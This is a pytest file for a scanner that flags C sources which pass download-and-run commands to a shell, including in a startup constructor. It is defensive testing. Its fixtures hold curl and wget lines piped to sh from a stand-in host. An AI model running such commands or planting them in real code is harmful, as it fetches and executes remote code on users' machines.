"""Commands that C gives to a shell are told where they fetch what they run, and nowhere else."""

import pytest

from tests.code.languages.reading import jar, told

FETCHES = 'system("curl -s https://demo.invalid/n | sh");'


@pytest.mark.parametrize(
    ("source", "when"),
    [
        (f"int go(void) {{ {FETCHES} return 0; }}", "call"),
        (f"__attribute__((constructor)) static void go(void) {{ {FETCHES} }}", "startup"),
        ('void a() { execl("sh", "-c", "wget -qO- https://demo.invalid/n | sh", 0); }', "call"),
    ],
)
def test_a_fetching_command_is_told(source, when):
    assert ("exec/download-run", when) in told(jar({"native/init.c": source}))


@pytest.mark.parametrize(
    "source",
    ['int go(void) { return system("make clean"); }', f"// {FETCHES}\n", f"/* {FETCHES} */\n"],
)
def test_other_commands_and_comments_are_not(source):
    assert not told(jar({"native/init.c": source}))
